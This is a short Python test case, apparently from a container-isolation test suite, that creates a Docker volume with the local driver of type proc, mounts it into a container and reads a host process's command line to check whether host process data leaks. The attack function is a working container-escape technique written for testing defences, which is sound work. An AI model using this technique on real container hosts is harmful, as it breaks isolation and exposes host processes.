"""A volume of the local driver of type proc shows the processes of the host."""

import subprocess

from bypass import refused

SOURCE = "idea"
WAY = "volume"
ENGINES = "docker"
STOPPED = refused("bind-blocked")


def attack(t):
    victim = subprocess.Popen(["tail", "-f", t.write("%s/%s" % (t.host, t.canary), "")])
    try:
        name = t.volume("--driver", "local", "-o", "type=proc", "-o", "device=proc")
        return t.leaked(t.run("-v", name + ":/x:ro", command="cat /x/%d/cmdline" % victim.pid))
    finally:
        victim.kill()
        victim.wait()
